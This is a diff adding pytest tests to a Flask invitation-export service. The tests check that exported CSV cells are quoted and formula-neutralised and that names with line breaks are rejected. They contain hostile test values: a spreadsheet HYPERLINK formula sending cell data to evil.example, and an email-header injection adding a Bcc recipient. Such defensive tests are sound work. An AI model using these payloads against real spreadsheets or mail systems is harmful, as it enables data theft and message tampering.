@@ -14,7 +14,7 @@ from typing import Any
 
 import pytest
 from flask import Flask
-from invitations_testkit import START, InvitationsWorld, build_world
+from invitations_testkit import START, InvitationsWorld, build_world, formula_cells
 from sqlalchemy import func, select
 
 from contracts.codec import decode
@@ -395,6 +395,80 @@ def test_formula_like_names_are_stored_as_given_and_exported_as_text(world: Worl
     )
     assert [line[0] for line in csv.reader(io.StringIO(only_fr.get_data(as_text=True)))][1:] == [
         "f3@example.org"
+    ]
+
+
+def test_the_export_quotes_every_cell_and_no_separator_lets_a_formula_through(
+    world: World,
+) -> None:
+    hostile = {
+        "first_name": "Ada;=1+1;",
+        "last_name": 'Love,=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "evaluation_name": "Maths|@SUM(A1:A9)",
+    }
+    out = io.StringIO()
+    roster = csv.DictWriter(out, fieldnames=HEADER.split(","))
+    roster.writeheader()
+    roster.writerow({**hostile, "email": "h@example.org", "evaluation_ref": "M; -1"})
+    assert world.upload(out.getvalue().encode()).get_json()["accepted"] == 1
+    world.run_worker()
+
+    export = world.client.get("/api/v1/invitations/export", headers=world.auth())
+
+    text = export.get_data(as_text=True)
+    header, line = list(csv.reader(io.StringIO(text, newline="")))
+    requoted = io.StringIO()
+    csv.writer(requoted, quoting=csv.QUOTE_ALL).writerows([header, line])
+    assert text == requoted.getvalue(), "every cell is quoted"
+    assert formula_cells(text) == []
+    exported = dict(zip(header, line, strict=True))
+    assert exported["first_name"] == "Ada;'=1+1;"
+    assert exported["last_name"] == 'Love,\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert exported["evaluation_name"] == "Maths|'@SUM(A1:A9)"
+    assert exported["evaluation_ref"] == "M;' -1"
+
+
+# -- control characters ----------------------------------------------------------------------------
+
+CONTROL = "Control characters such as line breaks or tabs are not allowed."
+
+
+def test_rows_with_a_line_break_or_tab_in_a_name_are_rejected_naming_the_field(
+    world: World,
+) -> None:
+    bad = {  # field: a value that would break a line of an email header
+        "first_name": "Ada\r\nBcc: evil@example.com",
+        "last_name": "Love\tlace",
+        "evaluation_name": "Ma\u2028ths",
+        "evaluation_ref": "M\n1",
+    }
+    good = {"first_name": "Ada", "last_name": "Lovelace", "evaluation_ref": "M1"}
+    good |= {"evaluation_name": "Maths", "language": "en"}
+    rows = [{**good, "email": f"c{i}@example.org", field: value} for i, (field, value) in
+            enumerate(bad.items(), start=1)]  # fmt: skip
+    rows.append({**good, "email": "c5@example.org"})
+    writer_out = io.StringIO()
+    writer = csv.DictWriter(writer_out, fieldnames=HEADER.split(","))
+    writer.writeheader()
+    writer.writerows(rows)
+
+    from_csv = world.upload(writer_out.getvalue().encode())
+    from_json = world.upload(
+        json.dumps([{**r, "email": "j" + r["email"]} for r in rows]).encode(), "application/json"
+    )
+
+    for response, first_row in ((from_csv, 2), (from_json, 1)):
+        assert response.status_code == 202
+        body = response.get_json()
+        assert body["accepted"] == 1
+        rejected = {r["row"]: r["errors"] for r in body["rejected"]}
+        assert rejected == {first_row + i: {field: [CONTROL]} for i, field in enumerate(bad)}, (
+            "each bad row is reported with its number and the field at fault"
+        )
+    world.run_worker()
+    assert sorted(e["data"]["email"] for e in world.events()) == [
+        "c5@example.org",
+        "jc5@example.org",
     ]
 
 
